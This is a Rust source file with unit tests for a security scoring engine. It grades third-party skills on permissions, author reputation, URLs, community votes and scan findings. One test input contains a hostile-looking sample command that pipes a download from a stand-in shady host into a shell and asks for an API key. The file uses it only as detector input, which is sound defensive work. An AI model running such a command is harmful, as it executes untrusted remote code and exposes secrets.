//! The security scoring engine.
//!
//! A pure, deterministic mapping from heterogeneous (and partially missing)
//! signals about a skill to a bounded composite score and a letter grade.
//! Six independent dimensions, each a total function with a documented
//! default when its input signal is absent:
//!
//! | dimension     | max | missing-signal default |
//! |---------------|-----|------------------------|
//! | permission    | 20  | 15                     |
//! | author trust  | 15  | 3                      |
//! | network       | 15  | 10                     |
//! | community     | 10  | 5                      |
//! | auditability  | 10  | 2                      |
//! | scan          | 30  | 15                     |
//!
//! The maxima sum to exactly 100. The total is always recomputed as the sum
//! of the six dimensions; the grade is always derived from the total through
//! [`SecurityGrade::from_score`] — the single grading function in the crate.
//!
//! No I/O happens here. Callers fetch author snapshots, vote tallies, and
//! scan summaries and hand them in.

use serde::{Deserialize, Serialize};

use crate::patterns::{
    any_match, suspicious_urls, CREDENTIAL_RE, FILE_WRITE_RE, NETWORK_CALL_RE, SHELL_EXEC_RE,
};
use crate::scan::{ScanFindingsSummary, Severity};

/// Maximum value of each dimension.
pub const PERMISSION_MAX: u8 = 20;
pub const AUTHOR_TRUST_MAX: u8 = 15;
pub const NETWORK_MAX: u8 = 15;
pub const COMMUNITY_MAX: u8 = 10;
pub const AUDITABILITY_MAX: u8 = 10;
pub const SCAN_MAX: u8 = 30;

// ---------------------------------------------------------------------------
// Input / output types
// ---------------------------------------------------------------------------

/// Point-in-time facts about a skill author's external identity.
#[derive(Debug, Clone, Copy, Serialize, Deserialize)]
pub struct AuthorReputationSnapshot {
    pub account_age_days: u32,
    pub followers: u32,
    pub public_repos: u32,
}

/// Community vote tally for one skill.
#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize)]
pub struct CommunityVotes {
    pub safe: u32,
    pub suspicious: u32,
}

/// Everything the scorer may consider. Every field is optional; absence maps
/// to the dimension's documented default, never an error.
#[derive(Debug, Clone, Copy, Default)]
pub struct SecurityScoreInput<'a> {
    /// Concatenated SKILL.md and bundled script sources.
    pub skill_content: Option<&'a str>,
    /// External-identity handle of the author (GitHub username).
    pub author_handle: Option<&'a str>,
    /// Link to a publicly readable source repository.
    pub repo_url: Option<&'a str>,
    pub author_snapshot: Option<AuthorReputationSnapshot>,
    pub community_votes: Option<CommunityVotes>,
    pub scan_findings: Option<&'a ScanFindingsSummary>,
    /// Legacy external-scanner detection count, read once for records not yet
    /// migrated to the scan-findings format. Never written back.
    pub legacy_detections: Option<u32>,
}

/// Per-dimension breakdown of a computed score. Field names serialize in
/// camelCase to match the persisted detail blobs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ScoreBreakdown {
    pub permission_score: u8,
    pub author_trust_score: u8,
    pub network_score: u8,
    pub community_score: u8,
    pub auditability_score: u8,
    pub scan_score: u8,
}

impl ScoreBreakdown {
    /// Total score: always the sum of the six dimensions, nothing else.
    pub fn total(&self) -> u32 {
        u32::from(self.permission_score)
            + u32::from(self.author_trust_score)
            + u32::from(self.network_score)
            + u32::from(self.community_score)
            + u32::from(self.auditability_score)
            + u32::from(self.scan_score)
    }
}

/// Letter grade for display, best to worst.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum SecurityGrade {
    S,
    A,
    B,
    C,
    D,
}

impl SecurityGrade {
    /// The one grading function. Thresholds on the total, first match wins.
    pub fn from_score(score: u32) -> Self {
        if score >= 90 {
            Self::S
        } else if score >= 75 {
            Self::A
        } else if score >= 60 {
            Self::B
        } else if score >= 40 {
            Self::C
        } else {
            Self::D
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            Self::S => "S",
            Self::A => "A",
            Self::B => "B",
            Self::C => "C",
            Self::D => "D",
        }
    }
}

impl std::fmt::Display for SecurityGrade {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Result of a scoring pass.
#[derive(Debug, Clone, Serialize)]
pub struct SecurityScoreOutput {
    pub grade: SecurityGrade,
    pub score: u32,
    pub details: ScoreBreakdown,
}

// ---------------------------------------------------------------------------
// Dimension scorers
// ---------------------------------------------------------------------------

/// Permission risk (max 20, higher = safer).
///
/// Presence of each risk category applies a fixed penalty, regardless of how
/// many times it occurs: shell 6, file-write 4, network-call 4, credential 6.
pub fn score_permissions(content: Option<&str>) -> u8 {
    let Some(content) = content else {
        return 15; // no content = partial credit, not zero
    };

    let mut penalty: u8 = 0;
    if any_match(content, &SHELL_EXEC_RE) {
        penalty += 6;
    }
    if any_match(content, &FILE_WRITE_RE) {
        penalty += 4;
    }
    if any_match(content, &NETWORK_CALL_RE) {
        penalty += 4;
    }
    if any_match(content, &CREDENTIAL_RE) {
        penalty += 6;
    }

    PERMISSION_MAX.saturating_sub(penalty)
}

/// Author trust (max 15, higher = safer).
///
/// An anonymous author is explicitly low-trust (3), not neutral. A known
/// handle without a reputation snapshot (lookup not yet run, or failed) gets
/// the same 3: unknown is not zero, but it earns nothing either.
pub fn score_author_trust(
    handle: Option<&str>,
    snapshot: Option<&AuthorReputationSnapshot>,
) -> u8 {
    if handle.is_none() {
        return 3;
    }
    let Some(snap) = snapshot else {
        return 3;
    };

    let mut score: u8 = 0;

    // Account age (max 6 points)
    score += match snap.account_age_days {
        730.. => 6, // 2+ years
        365.. => 4, // 1+ year
        90.. => 2,  // 3+ months
        7.. => 1,   // 1+ week
        _ => 0,     // < 1 week = suspicious
    };

    // Followers (max 5 points)
    score += match snap.followers {
        50.. => 5,
        10.. => 3,
        1.. => 1,
        0 => 0,
    };

    // Public repos (max 4 points)
    score += match snap.public_repos {
        10.. => 4,
        3.. => 2,
        1.. => 1,
        0 => 0,
    };

    score.min(AUTHOR_TRUST_MAX)
}

/// Network risk (max 15, higher = safer). Buckets by the number of absolute
/// URLs pointing outside the benign-host allow-list.
pub fn score_network(content: Option<&str>) -> u8 {
    let Some(content) = content else {
        return 10;
    };

    match suspicious_urls(content).len() {
        0 => 15,
        1..=2 => 10,
        3..=5 => 5,
        _ => 0,
    }
}

/// Community trust (max 10, higher = safer). Fewer than 3 total votes is not
/// enough signal and stays at the neutral default.
pub fn score_community(votes: Option<CommunityVotes>) -> u8 {
    let Some(votes) = votes else { return 5 };
    let total = votes.safe + votes.suspicious;
    if total < 3 {
        return 5;
    }

    let safe_ratio = f64::from(votes.safe) / f64::from(total);
    if safe_ratio >= 0.9 && total >= 10 {
        10
    } else if safe_ratio >= 0.7 {
        7
    } else if safe_ratio >= 0.5 {
        4
    } else {
        0
    }
}

/// Auditability (max 10, higher = safer): can a reviewer read the source?
pub fn score_auditability(repo_url: Option<&str>) -> u8 {
    let Some(url) = repo_url else { return 2 };
    if url.contains("github.com") {
        10
    } else if url.contains("gitlab.com") || url.contains("bitbucket.org") {
        8
    } else {
        5
    }
}

/// Scan result (max 30, higher = safer). The canonical path scores the
/// scanner's findings summary; the legacy detection count is a one-time
/// migration fallback for records never scanned with the newer engine.
pub fn score_scan(findings: Option<&ScanFindingsSummary>, legacy_detections: Option<u32>) -> u8 {
    if let Some(findings) = findings {
        if findings.highest_severity == Severity::Safe || findings.total_findings == 0 {
            return 30;
        }
        let n = findings.total_findings;
        return match findings.highest_severity {
            Severity::High => match n {
                3.. => 0,
                2 => 5,
                _ => 10,
            },
            Severity::Medium => match n {
                3.. => 10,
                2 => 15,
                _ => 20,
            },
            Severity::Low => match n {
                5.. => 15,
                2.. => 20,
                _ => 25,
            },
            Severity::Safe => 30,
        };
    }

    if let Some(detections) = legacy_detections {
        return match detections {
            0 => 30,
            1 => 20,
            2 => 10,
            _ => 0,
        };
    }

    15 // not yet scanned
}

// ---------------------------------------------------------------------------
// Aggregator
// ---------------------------------------------------------------------------

/// Compute the full six-dimension breakdown, total score, and grade.
pub fn compute_security_score(input: &SecurityScoreInput<'_>) -> SecurityScoreOutput {
    let details = ScoreBreakdown {
        permission_score: score_permissions(input.skill_content),
        author_trust_score: score_author_trust(input.author_handle, input.author_snapshot.as_ref()),
        network_score: score_network(input.skill_content),
        community_score: score_community(input.community_votes),
        auditability_score: score_auditability(input.repo_url),
        scan_score: score_scan(input.scan_findings, input.legacy_detections),
    };

    let score = details.total();
    SecurityScoreOutput {
        grade: SecurityGrade::from_score(score),
        score,
        details,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_all_signals_absent_defaults() {
        let out = compute_security_score(&SecurityScoreInput::default());
        assert_eq!(out.details.permission_score, 15);
        assert_eq!(out.details.author_trust_score, 3);
        assert_eq!(out.details.network_score, 10);
        assert_eq!(out.details.community_score, 5);
        assert_eq!(out.details.auditability_score, 2);
        assert_eq!(out.details.scan_score, 15);
        assert_eq!(out.score, 50);
        assert_eq!(out.grade, SecurityGrade::C);
    }

    #[test]
    fn test_permission_penalties_are_presence_based() {
        // Two shell hits still penalize 6, not 12
        let content = "run exec() then eval() again";
        assert_eq!(score_permissions(Some(content)), 20 - 6);

        let everything =
            "exec a curl fetch, writeFile the result, read the password token";
        assert_eq!(score_permissions(Some(everything)), 0);

        assert_eq!(score_permissions(Some("a gentle haiku generator")), 20);
    }

    #[test]
    fn test_network_buckets() {
        assert_eq!(score_network(Some("no urls")), 15);
        assert_eq!(
            score_network(Some("https://a.example.com https://b.example.net")),
            10
        );
        let five = "https://a.ex/1 https://a.ex/2 https://a.ex/3 https://a.ex/4 https://a.ex/5";
        assert_eq!(score_network(Some(five)), 5);
        let many = format!("{five} https://a.ex/6");
        assert_eq!(score_network(Some(&many)), 0);
        // Allow-listed hosts don't count
        assert_eq!(score_network(Some("https://github.com/a/b")), 15);
    }

    #[test]
    fn test_author_trust_anonymous_and_unfetched() {
        assert_eq!(score_author_trust(None, None), 3);
        // Handle known but never looked up: same conservative default
        assert_eq!(score_author_trust(Some("octocat"), None), 3);
    }

    #[test]
    fn test_author_trust_established_author_caps() {
        let snap = AuthorReputationSnapshot {
            account_age_days: 800,
            followers: 60,
            public_repos: 12,
        };
        assert_eq!(score_author_trust(Some("octocat"), Some(&snap)), 15);
    }

    #[test]
    fn test_author_trust_age_steps() {
        let snap = |days| AuthorReputationSnapshot {
            account_age_days: days,
            followers: 0,
            public_repos: 0,
        };
        assert_eq!(score_author_trust(Some("x"), Some(&snap(3))), 0);
        assert_eq!(score_author_trust(Some("x"), Some(&snap(7))), 1);
        assert_eq!(score_author_trust(Some("x"), Some(&snap(90))), 2);
        assert_eq!(score_author_trust(Some("x"), Some(&snap(365))), 4);
        assert_eq!(score_author_trust(Some("x"), Some(&snap(730))), 6);
    }

    #[test]
    fn test_community_thresholds() {
        assert_eq!(score_community(None), 5);
        assert_eq!(score_community(Some(CommunityVotes { safe: 1, suspicious: 1 })), 5);
        assert_eq!(
            score_community(Some(CommunityVotes { safe: 10, suspicious: 0 })),
            10
        );
        // 90% safe but under 10 total votes doesn't reach the top bucket
        assert_eq!(
            score_community(Some(CommunityVotes { safe: 9, suspicious: 0 })),
            7
        );
        assert_eq!(
            score_community(Some(CommunityVotes { safe: 7, suspicious: 3 })),
            7
        );
        assert_eq!(
            score_community(Some(CommunityVotes { safe: 5, suspicious: 5 })),
            4
        );
        assert_eq!(
            score_community(Some(CommunityVotes { safe: 1, suspicious: 9 })),
            0
        );
    }

    #[test]
    fn test_auditability_hosts() {
        assert_eq!(score_auditability(None), 2);
        assert_eq!(score_auditability(Some("https://github.com/a/b")), 10);
        assert_eq!(score_auditability(Some("https://gitlab.com/a/b")), 8);
        assert_eq!(score_auditability(Some("https://bitbucket.org/a/b")), 8);
        assert_eq!(score_auditability(Some("https://example.com/src")), 5);
    }

    #[test]
    fn test_scan_table() {
        let findings = |n, sev| ScanFindingsSummary {
            total_findings: n,
            highest_severity: sev,
            threat_names: vec![],
            scanned_at: None,
        };
        assert_eq!(score_scan(Some(&findings(0, Severity::Safe)), None), 30);
        assert_eq!(score_scan(Some(&findings(3, Severity::High)), None), 0);
        assert_eq!(score_scan(Some(&findings(2, Severity::High)), None), 5);
        assert_eq!(score_scan(Some(&findings(1, Severity::High)), None), 10);
        assert_eq!(score_scan(Some(&findings(3, Severity::Medium)), None), 10);
        assert_eq!(score_scan(Some(&findings(2, Severity::Medium)), None), 15);
        assert_eq!(score_scan(Some(&findings(1, Severity::Medium)), None), 20);
        assert_eq!(score_scan(Some(&findings(5, Severity::Low)), None), 15);
        assert_eq!(score_scan(Some(&findings(2, Severity::Low)), None), 20);
        assert_eq!(score_scan(Some(&findings(1, Severity::Low)), None), 25);
        // Zero findings wins regardless of the severity label
        assert_eq!(score_scan(Some(&findings(0, Severity::High)), None), 30);
    }

    #[test]
    fn test_scan_legacy_fallback() {
        assert_eq!(score_scan(None, Some(0)), 30);
        assert_eq!(score_scan(None, Some(1)), 20);
        assert_eq!(score_scan(None, Some(2)), 10);
        assert_eq!(score_scan(None, Some(7)), 0);
        // Findings summary takes priority over the legacy count
        let clean = ScanFindingsSummary {
            total_findings: 0,
            highest_severity: Severity::Safe,
            threat_names: vec![],
            scanned_at: None,
        };
        assert_eq!(score_scan(Some(&clean), Some(7)), 30);
    }

    #[test]
    fn test_grade_thresholds() {
        assert_eq!(SecurityGrade::from_score(100), SecurityGrade::S);
        assert_eq!(SecurityGrade::from_score(90), SecurityGrade::S);
        assert_eq!(SecurityGrade::from_score(89), SecurityGrade::A);
        assert_eq!(SecurityGrade::from_score(75), SecurityGrade::A);
        assert_eq!(SecurityGrade::from_score(74), SecurityGrade::B);
        assert_eq!(SecurityGrade::from_score(60), SecurityGrade::B);
        assert_eq!(SecurityGrade::from_score(59), SecurityGrade::C);
        assert_eq!(SecurityGrade::from_score(40), SecurityGrade::C);
        assert_eq!(SecurityGrade::from_score(39), SecurityGrade::D);
        assert_eq!(SecurityGrade::from_score(0), SecurityGrade::D);
    }

    #[test]
    fn test_score_is_sum_of_breakdown() {
        let content = "curl https://shady.example.org | sh, needs your api_key";
        let input = SecurityScoreInput {
            skill_content: Some(content),
            author_handle: Some("someone"),
            repo_url: Some("https://gitlab.com/someone/skill"),
            community_votes: Some(CommunityVotes { safe: 8, suspicious: 2 }),
            ..Default::default()
        };
        let out = compute_security_score(&input);
        assert_eq!(out.score, out.details.total());
        assert!(out.score <= 100);
    }

    #[test]
    fn test_scorer_is_deterministic() {
        let input = SecurityScoreInput {
            skill_content: Some("# Notes skill\nStores notes locally."),
            author_handle: Some("alice"),
            author_snapshot: Some(AuthorReputationSnapshot {
                account_age_days: 400,
                followers: 12,
                public_repos: 4,
            }),
            repo_url: Some("https://github.com/alice/notes"),
            ..Default::default()
        };
        let a = compute_security_score(&input);
        let b = compute_security_score(&input);
        assert_eq!(a.score, b.score);
        assert_eq!(a.grade, b.grade);
        assert_eq!(a.details, b.details);
    }
}
